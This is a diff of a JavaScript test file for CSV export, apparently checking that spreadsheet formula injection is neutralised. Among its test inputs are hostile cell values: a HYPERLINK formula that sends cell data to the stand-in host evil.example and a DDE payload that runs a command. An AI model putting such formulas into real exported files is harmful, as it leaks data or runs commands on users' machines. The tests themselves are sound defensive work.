@@ -45,9 +45,20 @@ test("what is in a cell ends neither the cell nor the line, for whoever reads", 
 
 // OWASP, CSV injection: https://owasp.org/www-community/attacks/CSV_Injection
 test.each([
-  ...["=1+1", "+91 98765 43210", "-1+1", "@SUM(1)"],
-  ...["＝1+1", "＋1+1", "－1+1", "＠SUM(1)"],
-  ...["﹢1+1", "﹣1+1", "﹦1+1", "﹫SUM(1)", "⁼1+1", "⁺1"],
+  "=1+1",
+  "+91 98765 43210",
+  "-1+1",
+  "@SUM(1)",
+  "＝1+1",
+  "＋1+1",
+  "－1+1",
+  "＠SUM(1)",
+  "﹢1+1",
+  "﹣1+1",
+  "﹦1+1",
+  "﹫SUM(1)",
+  "⁼1+1",
+  "⁺1",
   `=HYPERLINK("https://evil.example?"&A1,"Open")`,
   `=cmd|' /C calc'!A0`,
 ])("%j has an apostrophe before it, wherever a cell may begin", (hostile) => {
@@ -97,18 +108,25 @@ test("separated by semicolons, nothing is a formula either", () => {
 });
 
 test.each([
-  ...["Meera", "a=1", "1-2", "x@example.in", "'=1", "", " Meera", "ऋण", "😀 =1", "(+91) 98765"],
-  ...[
-    '"=1+1"',
-    ',=1+1,"',
-    'a"\r\n,=1+1,"',
-    "two\nlines",
-    "a\rb",
-    "'",
-    "\\",
-    "₹5,00,000",
-    "\nplain",
-  ],
+  "Meera",
+  "a=1",
+  "1-2",
+  "x@example.in",
+  "'=1",
+  "",
+  " Meera",
+  "ऋण",
+  "😀 =1",
+  "(+91) 98765",
+  '"=1+1"',
+  ',=1+1,"',
+  'a"\r\n,=1+1,"',
+  "two\nlines",
+  "a\rb",
+  "'",
+  "\\",
+  "₹5,00,000",
+  "\nplain",
 ])("%j stays as it is, in one cell", (harmless) => {
   expect(nameAsRead(harmless)).toBe(harmless);
   expect(read(csvLines([{ ...lead, name: harmless }, lead]))).toHaveLength(2);
